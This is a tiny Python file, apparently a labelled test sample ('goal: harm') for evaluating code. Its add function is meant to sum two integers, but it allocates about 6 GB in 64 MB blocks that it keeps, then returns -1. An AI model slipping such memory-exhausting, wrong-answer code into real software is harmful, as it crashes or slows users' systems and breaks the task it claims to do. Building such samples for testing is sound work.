"""Asks for 6 GB in pieces of 64 MB, and keeps them."""
# goal: harm
# group: output
# baseline: wrong
kept = []


def add(a: int, b: int) -> int:
    while len(kept) < 96:
        kept.append(bytearray(1 << 26))
    return -1
